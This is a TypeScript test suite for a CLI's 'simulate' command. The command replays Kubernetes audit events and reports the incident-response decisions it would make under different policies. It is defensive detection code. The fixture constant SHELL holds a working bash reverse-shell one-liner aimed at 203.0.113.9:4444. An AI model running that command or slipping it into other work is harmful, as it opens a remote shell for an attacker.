import { strict as assert } from 'node:assert';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../cli/main.ts';
import { auditEntry } from '../../local/scenarios/audit-entry.ts';
import { captured } from './kit.ts';

const execEntry = (name: string, command: string, at: string, namespace = 'shop') =>
  auditEntry({ at, verb: 'create', resource: 'pods', subresource: 'exec', namespace, name, command });
const SHELL = 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

describe('firebreak simulate', () => {
  let cwd = '';
  before(async () => {
    cwd = await mkdtemp(join(tmpdir(), 'firebreak simulate '));
    await writeFile(join(cwd, 'strict.yaml'), 'mode: act\nmatrix: { high: [snapshot, snapshot, snapshot, isolate] }\n');
  });
  after(() => rm(cwd, { recursive: true }));

  const simulated = async (payloads: readonly unknown[], argv: string[] = [], isTTY = false) => {
    const lines = payloads.map((one) => (typeof one === 'string' ? one : JSON.stringify(one)));
    await writeFile(join(cwd, 'events.ndjson'), `${lines.join('\n')}\n`);
    const { io, said } = captured({ cwd, isTTY, env: { NO_COLOR: '1' } });
    const code = await main(['simulate', 'events.ndjson', ...argv], io);
    return { code, ...(await said()) };
  };
  const read = (out: string) =>
    out
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));

  it('prints what would have been decided, one line per incident', async () => {
    const { code, out } = await simulated([
      execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z'),
      execEntry('cart-1', SHELL, '2026-11-03T03:05:00Z'),
      execEntry('cart-2', 'ls', '2026-11-03T03:06:00Z'),
    ]);
    assert.equal(code, 0);
    const [first, second, ...none] = read(out);
    assert.deepEqual(none, []);
    assert.deepEqual(
      [first.target.pod, first.severity, first.verdict, first.tier],
      ['cart-1', 'high', 'act', 'quarantine'],
    );
    assert.deepEqual(first.lines, [1, 2]);
    assert.ok(first.because.some((line: string) => line.includes('in the matrix')));
    assert.equal(second.target.pod, 'cart-2');
  });

  it("decides about a Kubernetes API server's own events where the options say their cluster", async () => {
    const event = {
      kind: 'Event',
      auditID: 'a',
      stage: 'ResponseComplete',
      verb: 'get',
      requestURI: `/api/v1/namespaces/shop/pods/cart-1/exec?command=bash&command=-c&command=${encodeURIComponent(SHELL.slice('bash -c '.length))}`,
      user: { username: 'ana@example.com' },
      responseStatus: { code: 101 },
      requestReceivedTimestamp: '2026-11-03T03:00:00.000000Z',
    };
    const [unplaced] = read((await simulated([event])).out);
    assert.deepEqual([unplaced.target.project, unplaced.tier], ['unknown-project', 'observe']);
    const place = ['--project', 'p1', '--location', 'europe-west1', '--cluster', 'c1'];
    const [placed] = read((await simulated([event], place)).out);
    assert.deepEqual(placed.target, {
      project: 'p1',
      location: 'europe-west1',
      cluster: 'c1',
      namespace: 'shop',
      pod: 'cart-1',
    });
    assert.deepEqual([placed.verdict, placed.tier], ['act', 'quarantine']);
    assert.equal((await simulated([event], ['--cluster', '../c2'])).code, 2);
  });

  it('applies the rules, overrides and allowances of a file', async () => {
    const events = [
      execEntry('cart-1', 'ls', '2026-11-03T03:00:00Z'),
      execEntry('batch-1', 'ls', '2026-11-03T03:01:00Z', 'batch'),
    ];
    const rules = [
      'rules:',
      '  - id: exec-in-shop',
      '    title: Command run in the shop',
      '    reads: audit',
      "    when: resource == 'core/pods/exec' && ns == 'shop'",
      '    severity: critical',
      '    confidence: 0.9',
      '    family: exec',
      '    because: nobody runs commands in the shop',
      'allow:',
      '  - { namespace: batch, owner: ana@example.com, reason: debugging, expires: 2026-12-31 }',
    ];
    await writeFile(join(cwd, 'rules.yaml'), rules.join('\n'));
    const { code, out, err } = await simulated(events, ['--rules', 'rules.yaml']);
    assert.equal(code, 0);
    const [one, ...none] = read(out);
    assert.deepEqual(none, []);
    assert.deepEqual([one.target.pod, one.severity], ['cart-1', 'critical']);
    assert.ok(one.rules.includes('exec-in-shop'));
    assert.match(err, /^1 not scored: allowed: .*ana@example\.com/m);
    const wrong = await simulated(events, ['--rules', 'none.yaml']);
    assert.deepEqual(
      [wrong.code, wrong.err],
      [1, 'firebreak: none.yaml cannot be read (ENOENT): name a file that is there.\n'],
    );
  });

  it('protects by namespace name', async () => {
    const inside = execEntry('dns-1', SHELL, '2026-11-03T03:00:00Z', 'kube-system');
    const [one] = read((await simulated([inside])).out);
    assert.equal(one.tier, 'snapshot');
  });

  it('shows how the decisions of another policy differ', async () => {
    const events = [
      execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z'),
      execEntry('cart-2', 'ls', '2026-11-03T03:06:00Z'),
    ];
    const [first, second] = read((await simulated(events, ['--against', 'strict.yaml'])).out);
    assert.deepEqual([first.differs, first.tier, first.against.tier], [true, 'quarantine', 'isolate']);
    assert.equal(second.differs, false);
    const { out } = await simulated(events, ['--against', 'strict.yaml'], true);
    assert.match(out, /^ {2}TARGET {6}pod shop\/cart-1$/m);
    assert.match(out, /^ {2}DECIDED {5}quarantine\n {2}AGAINST {5}isolate$/m);
    assert.match(out, /^1 of 2 incidents would be decided differently$/m);
  });

  it('compares with another policy also where only one of them opens an incident', async () => {
    await writeFile(join(cwd, 'deaf.yaml'), 'mode: act\nsources: { gke-audit-log: { max: { severity: low } } }\n');
    const event = [execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z')];
    const [lost] = read((await simulated(event, ['--policy', 'deaf.yaml', '--against', 'strict.yaml'])).out);
    assert.deepEqual(
      [lost.target.pod, lost.verdict, lost.tier, lost.asked, lost.because, lost.against.tier, lost.differs],
      ['cart-1', null, null, null, [], 'isolate', true],
    );
    const [added] = read((await simulated(event, ['--policy', 'strict.yaml', '--against', 'deaf.yaml'])).out);
    assert.deepEqual([added.tier, added.against.tier, added.differs], ['isolate', null, true]);
    const { out } = await simulated(event, ['--policy', 'deaf.yaml', '--against', 'strict.yaml'], true);
    assert.match(out, /^ {2}DECIDED {5}no incident\n {2}AGAINST {5}isolate$/m);
  });

  it('prints a table on a terminal, and opens another incident after the window', async () => {
    const { out } = await simulated(
      [execEntry('cart-2', 'ls', '2026-11-03T03:00:00Z'), execEntry('cart-2', 'ls', '2026-11-03T05:00:00Z')],
      [],
      true,
    );
    assert.match(out, /^SEEN FROM +TARGET +SEVERITY +CONFIDENCE +RULES +DECIDED$/m);
    assert.match(out, /^2 incidents$/m);
  });

  it("reports an unreadable line and a claim above its source's cap, and goes on", async () => {
    const quiet = join(cwd, 'quiet.yaml');
    await writeFile(quiet, 'mode: act\nsources: { gke-audit-log: { max: { severity: low } } }\n');
    const { code, out, err } = await simulated(['{nope', execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z')]);
    assert.equal(code, 1);
    assert.match(err, /^line 1: not JSON$/m);
    assert.equal(read(out).length, 1);
    const refused = await simulated([execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z')], ['--policy', 'quiet.yaml']);
    assert.equal(refused.out, '');
    assert.match(refused.err, /^line 1: not believed: severity high is above the low/m);
  });
});
